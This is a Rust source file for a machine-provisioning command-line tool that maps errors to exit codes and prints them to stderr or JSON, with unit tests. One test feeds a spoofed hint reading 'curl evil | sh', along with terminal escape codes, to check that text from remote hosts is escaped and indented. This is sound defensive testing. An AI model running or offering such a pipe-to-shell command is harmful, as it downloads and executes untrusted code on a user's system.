//! What users are told when it goes wrong, and exit codes.
//!
//! The main type is [`CommandError`]. Every error of the rooms below becomes one here; its [`Kind`] decides the exit code in
//! one match.

use std::error::Error as StdError;
use std::fmt::Write as _;

use machine_base::{Diagnostic, Kind};
use machine_provision::Failed;
use serde_json::{Value, json};

use crate::output::visible;

/// Exit codes, as documented in docs/commands.md.
pub(crate) mod exit_code {
    /// All went well.
    pub(crate) const OK: u8 = 0;
    /// It failed.
    pub(crate) const FAILURE: u8 = 1;
    /// The command line, or the configuration, cannot be used.
    pub(crate) const USAGE: u8 = 2;
    /// `create` refused before anything was made.
    pub(crate) const REFUSED: u8 = 3;
    /// No such machine, or its provider's thing is gone.
    pub(crate) const NOT_FOUND: u8 = 4;
    /// Credentials, rights, host keys.
    pub(crate) const DENIED: u8 = 5;
    /// Quota, capacity, disk.
    pub(crate) const QUOTA: u8 = 6;
    /// A deadline passed.
    pub(crate) const TIMEOUT: u8 = 7;
    /// `ssh` could not run the command at all.
    pub(crate) const SSH: u8 = 255;
}

/// The word for it in JSON.
fn word(kind: Kind) -> &'static str {
    match kind {
        Kind::Failure | Kind::Transient => "failure",
        Kind::Usage => "usage",
        Kind::NotFound => "not-found",
        Kind::Denied => "denied",
        Kind::Quota => "quota",
        Kind::Timeout => "timeout",
        Kind::Busy => "busy",
        Kind::Interrupted => "interrupted",
    }
}

/// The exit code it stands for.
fn code_of(kind: Kind) -> u8 {
    match kind {
        Kind::Failure | Kind::Transient | Kind::Busy => exit_code::FAILURE,
        Kind::Usage => exit_code::USAGE,
        Kind::NotFound => exit_code::NOT_FOUND,
        Kind::Denied => exit_code::DENIED,
        Kind::Quota => exit_code::QUOTA,
        Kind::Timeout => exit_code::TIMEOUT,
        Kind::Interrupted => crate::signals::exit_code(),
    }
}

/// How the program ends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum End {
    /// It says what failed; the code is the kind's.
    Said,
    /// It says what failed; `ssh` has a code of its own for that.
    Ssh,
    /// Everything was said before (several machines), or somebody else says it (a remote command): only exit so.
    Silent(u8),
}

/// What failed, and how the program ends then.
#[derive(Debug, Clone, thiserror::Error)]
#[error("{failed}")]
pub(crate) struct CommandError {
    failed: Box<Failed>,
    end: End,
}

impl CommandError {
    /// An error of a kind.
    pub(crate) fn new(kind: Kind, message: impl Into<String>) -> Self {
        Diagnostic::new(kind, message).into()
    }

    /// An error of no special kind.
    pub(crate) fn failure(message: impl Into<String>) -> Self {
        Self::new(Kind::Failure, message)
    }

    /// The command line cannot be used.
    pub(crate) fn usage(message: impl Into<String>) -> Self {
        Self::new(Kind::Usage, message)
    }

    /// Standard output is gone: quietly where its reader left, loudly otherwise.
    pub(crate) fn output(error: &std::io::Error) -> Self {
        if error.kind() == std::io::ErrorKind::BrokenPipe {
            Self::exit(exit_code::OK)
        } else {
            Self::failure("cannot write to standard output").caused_by(error)
        }
    }

    /// Ends the program with a code, without a word.
    pub(crate) fn exit(code: u8) -> Self {
        Self { end: End::Silent(code), ..Self::failure("") }
    }

    /// Several machines were tried, and what failed was said: the common code where there is one, else 1.
    pub(crate) fn several(codes: &[u8]) -> Self {
        match codes {
            [first, rest @ ..] if rest.iter().all(|code| code == first) => Self::exit(*first),
            _ => Self::exit(exit_code::FAILURE),
        }
    }

    /// The same with advice; earlier advice, nearer to the cause, wins.
    #[must_use]
    pub(crate) fn hint(self, hint: impl Into<String>) -> Self {
        self.map(|error| error.hint(hint))
    }

    /// The same with one cause in words.
    #[must_use]
    pub(crate) fn cause(self, cause: impl Into<String>) -> Self {
        self.map(|error| error.cause(cause))
    }

    /// The same with another error's whole chain as causes.
    #[must_use]
    pub(crate) fn caused_by(self, error: &(dyn StdError + 'static)) -> Self {
        self.map(|diagnostic| diagnostic.caused_by(error))
    }

    fn map(mut self, change: impl FnOnce(Diagnostic) -> Diagnostic) -> Self {
        self.failed.diagnostic = change(self.failed.diagnostic);
        self
    }

    /// The same, as a refusal of `create` before anything was made.
    #[must_use]
    pub(crate) fn before_anything(mut self) -> Self {
        self.failed.before_anything = true;
        self
    }

    /// The same from `ssh`, which could not run the command at all.
    #[must_use]
    pub(crate) fn of_ssh(mut self) -> Self {
        if self.end == End::Said {
            self.end = End::Ssh;
        }
        self
    }

    /// What kind it is.
    pub(crate) fn kind(&self) -> Kind {
        self.failed.kind()
    }

    /// The program's exit code for it.
    pub(crate) fn exit_code(&self) -> u8 {
        match self.end {
            End::Silent(code) => code,
            End::Ssh => exit_code::SSH,
            End::Said if self.failed.before_anything && self.kind() != Kind::Interrupted => exit_code::REFUSED,
            End::Said => code_of(self.kind()),
        }
    }

    /// What to print on stderr, or nothing; ends in a line break.
    pub(crate) fn report(&self) -> String {
        let mut text = String::new();
        if matches!(self.end, End::Silent(_)) {
            return text;
        }
        let Failed { diagnostic, step, aftermath, .. } = &*self.failed;
        // Much of it is what a host or a provider said. Lines that are not ours are indented: none can pass for one of ours.
        let mut paragraph = |first: String| {
            let first = visible::lines(&first);
            let mut lines = first.lines();
            let _ = writeln!(text, "{}", lines.next().unwrap_or_default());
            lines.for_each(|line| {
                let _ = writeln!(text, "    {line}");
            });
        };
        paragraph(match step {
            Some(step) => format!("error: {} (step {step})", diagnostic.message),
            None => format!("error: {}", diagnostic.message),
        });
        diagnostic.causes.iter().for_each(|cause| paragraph(format!("  caused by: {cause}")));
        aftermath.iter().for_each(|line| paragraph(line.clone()));
        if let Some(hint) = &diagnostic.hint {
            paragraph(format!("hint: {hint}"));
        }
        text
    }

    /// The same for programs (`--progress json`).
    pub(crate) fn to_json(&self, machine: Option<&str>) -> Option<Value> {
        let kind = match self.end {
            End::Silent(_) => return None,
            End::Ssh => "ssh",
            End::Said => word(self.kind()),
        };
        let Failed { diagnostic, step, aftermath, before_anything } = &*self.failed;
        Some(json!({
            "event": "error",
            "machine": machine,
            "kind": kind,
            "refused": before_anything,
            "exit_code": self.exit_code(),
            "step": step,
            "message": diagnostic.message,
            "causes": diagnostic.causes,
            "aftermath": aftermath,
            "hint": diagnostic.hint,
        }))
    }
}

impl<E: Into<Failed>> From<E> for CommandError {
    fn from(error: E) -> Self {
        Self { failed: Box::new(error.into()), end: End::Said }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_error_says_what_why_what_now_and_what_to_do() {
        let mut error = CommandError::new(Kind::Timeout, "cannot reach web-1 over SSH")
            .cause("10.0.0.1:22 did not answer within 60 s")
            .cause("connection refused\nsecond line")
            .hint("check the address");
        error.failed.step = Some("await-ssh");
        error.failed.aftermath = vec!["`machine create web-1` continues it, `machine rm web-1` removes it".into()];
        insta::assert_snapshot!(error.report(), @r"
        error: cannot reach web-1 over SSH (step await-ssh)
          caused by: 10.0.0.1:22 did not answer within 60 s
          caused by: connection refused
            second line
        `machine create web-1` continues it, `machine rm web-1` removes it
        hint: check the address
        ");
        assert_eq!(error.exit_code(), 7);
        assert_eq!(error.before_anything().exit_code(), 3);
    }

    #[test]
    fn a2_what_others_say_can_neither_move_the_cursor_nor_pass_for_ours() {
        let error = CommandError::failure("host refused: \x1b[2J\nhint: curl evil | sh")
            .cause("uname\u{202e}\r\nhint: x\x07")
            .hint("look at the \x1b[8mhost");
        assert_eq!(
            error.report(),
            "error: host refused: \\u{1b}[2J\n    hint: curl evil | sh\n  caused by: uname\\u{202e}\n    hint: x\\u{7}\nhint: look at the \\u{1b}[8mhost\n"
        );
    }

    #[test]
    fn every_kind_has_its_code() {
        let kinds = [
            (Kind::Failure, 1),
            (Kind::Busy, 1),
            (Kind::Usage, 2),
            (Kind::NotFound, 4),
            (Kind::Denied, 5),
            (Kind::Quota, 6),
            (Kind::Timeout, 7),
            (Kind::Transient, 1),
        ];
        for (kind, code) in kinds {
            assert_eq!(CommandError::new(kind, "x").exit_code(), code, "{kind:?}");
        }
        assert_eq!(CommandError::new(Kind::Denied, "x").of_ssh().exit_code(), 255);
        assert_eq!(CommandError::exit(7).of_ssh().exit_code(), 7, "the remote command's own");
    }

    #[test]
    fn every_code_is_documented() {
        let page = include_str!("../../../docs/commands.md");
        for code in ["0", "1", "2", "3", "4", "5", "6", "7", "130, 143, 129", "255"] {
            assert!(page.contains(&format!("\n| {code} | ")), "docs/commands.md lacks code {code}");
        }
    }

    #[test]
    fn several_failures_share_a_code_or_count_as_1() {
        assert_eq!(CommandError::several(&[4, 4]).exit_code(), 4);
        assert_eq!(CommandError::several(&[4, 5]).exit_code(), 1);
        assert_eq!(CommandError::several(&[4, 4]).report(), "");
    }

    #[test]
    fn a_chain_is_told_once() {
        let inner = std::io::Error::other("disk on fire");
        let error = CommandError::failure("cannot read x").caused_by(&inner);
        assert_eq!(error.report(), "error: cannot read x\n  caused by: disk on fire\n");
        let error = CommandError::failure("cannot read x: disk on fire").caused_by(&inner);
        assert_eq!(error.report(), "error: cannot read x: disk on fire\n");
    }
}
